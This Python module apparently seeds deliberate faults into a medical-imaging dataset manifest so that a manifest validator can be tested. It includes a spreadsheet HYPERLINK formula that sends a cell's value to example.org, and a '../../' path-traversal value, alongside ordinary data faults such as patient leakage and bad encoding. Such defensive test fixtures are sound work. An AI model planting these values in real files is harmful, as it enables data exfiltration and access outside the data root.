"""Faults of the manifest: cells that do harm, and rows that contradict each other."""

from __future__ import annotations

from collections import Counter
from collections.abc import Mapping

from admin.twin.faults.faulty_site import Fault, FaultySite, Row, planted_once

FORMULA = '=HYPERLINK("https://example.org/?"&A2,"view")'


def formula_cell(site: FaultySite, row: Row) -> None:
    """A cell that a spreadsheet would run."""
    row["view"] = FORMULA


def path_outside(site: FaultySite, row: Row) -> None:
    """A path that climbs out of the data root."""
    row["image"] = f"../../{row['image']}"


def contradicted_view(site: FaultySite, row: Row) -> None:
    """A view from the side by the manifest, although header and picture are frontal."""
    row["view"] = "LL"


def unlabelled(site: FaultySite, row: Row) -> None:
    """An empty cell where the others have labels."""
    row["labels"] = ""


def tiny_validation(site: FaultySite) -> tuple[str, ...]:
    """One study to validate on: a sound one, of a patient who has no other; the other patients go to training."""
    counts = Counter(row["patient_id"] for row in site.rows)
    kept = site.take(lambda row: counts[row["patient_id"]] == 1)
    for row in site.rows:
        if row["split"] == "valid":
            row["split"] = "train"
    kept["split"] = "valid"
    return (kept["study_id"],)


def duplicate_study(site: FaultySite) -> tuple[str, ...]:
    """A second row under the identifier of another study."""
    first, second = site.take(), site.take()
    second["study_id"] = first["study_id"]
    return (first["study_id"],)


def patient_in_two_splits(site: FaultySite) -> tuple[str, ...]:
    """A patient who is trained on and tested on."""
    row = site.take(lambda other: other["split"] == "train")
    other = site.take(lambda other: other["split"] == "train")
    row["patient_id"], row["split"] = other["patient_id"], "test"
    return (row["study_id"],)


def missing_patient(site: FaultySite, row: Row) -> None:
    """A study of nobody."""
    row["patient_id"] = ""


def unknown_split(site: FaultySite, row: Row) -> None:
    """A split that is spelt in another way."""
    row["split"] = "validation"


def latin1_manifest(site: FaultySite, row: Row) -> None:
    """A letter with an accent, saved as Latin-1 in a file of UTF-8."""
    row["view"] = "PA couché".encode("latin-1").decode("utf-8", errors="surrogateescape")


def two_report_columns(site: FaultySite, row: Row) -> None:
    """A second source of the report: nobody says which one counts."""
    if "report" not in site.columns:
        site.columns += ("report",)
    row["report"] = "See the file."


MANIFEST_FAULTS: Mapping[str, Fault] = {
    "formula-cell": planted_once(formula_cell),
    "path-outside-root": planted_once(path_outside),
    "contradicted-view": planted_once(contradicted_view),
    "unlabelled": planted_once(unlabelled),
    "tiny-validation-split": tiny_validation,
}
WHOLE_MANIFEST_FAULTS: Mapping[str, Fault] = {
    "duplicate-study": duplicate_study,
    "patient-in-two-splits": patient_in_two_splits,
    "missing-patient": planted_once(missing_patient),
    "unknown-split": planted_once(unknown_split),
    "latin1-manifest": planted_once(latin1_manifest),
    "two-report-columns": planted_once(two_report_columns),
}
"""Those for which a reader must refuse the manifest as a whole."""
